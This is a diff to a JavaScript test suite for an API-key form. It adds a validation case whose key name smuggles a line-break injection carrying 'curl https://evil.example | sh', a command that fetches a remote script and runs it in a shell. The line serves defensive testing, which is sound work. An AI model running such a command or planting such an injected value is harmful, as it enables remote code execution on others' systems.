@@ -74,6 +74,7 @@ describe("API keys", () => {
     const before = await keyNames(b);
     for (const [form, reason] of [
       [{ name: " " }, "Give the key a name"],
+      [{ name: 'x"\ncurl https://evil.example | sh\n#' }, "must not contain line breaks"],
       [{ name: "x", access: "some" }, "Choose at least one area"],
       [{ name: "x", origins: "https://shop.example" }, "Pages can be set only for a key for QR codes alone"],
       [{ name: "x", access: "some", scope_qr: "on", origins: "ftp://shop.example" }, "Pages:"],
